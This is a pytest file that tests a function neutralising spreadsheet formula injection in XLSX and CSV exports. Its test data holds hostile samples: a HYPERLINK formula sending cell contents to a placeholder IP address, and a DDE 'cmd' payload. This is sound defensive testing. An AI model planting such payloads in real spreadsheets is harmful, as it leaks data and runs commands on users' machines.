"""The cell neutraliser shared by the XLSX report, the published sheets and CSV output."""

from __future__ import annotations

import pytest

from pipelines.core.cells import neutralise_cell, unneutralise_cell

# a spreadsheet skips a leading line feed or carriage return and reads the formula after it
HIDDEN_FORMULAS = {
    "line_feed_formula": '\n=HYPERLINK("http://198.51.100.7/?d="&A1;"klik")',
    "carriage_return_formula": "\r=cmd|' /C calc'!A0",
    "line_feed_plus": "\n+62812",
    "carriage_return_at": "\r@SUM(A1:A9)",
    "crlf_formula": "\r\n=1+1",
}


@pytest.mark.parametrize("text", HIDDEN_FORMULAS.values(), ids=HIDDEN_FORMULAS.keys())
def test_neutralise_cell__line_break_before_a_formula(text):
    assert neutralise_cell(text) == "'" + text
    assert unneutralise_cell(neutralise_cell(text)) == text


@pytest.mark.parametrize(
    "text", ["Bunguran Timur", "Jl. Mawar\n=2", "a\r=b", "'\n=1"], ids=["plain", "lf_inside", "cr_inside", "quoted"]
)
def test_neutralise_cell__line_break_inside_text_is_left_alone(text):
    assert neutralise_cell(text) == text
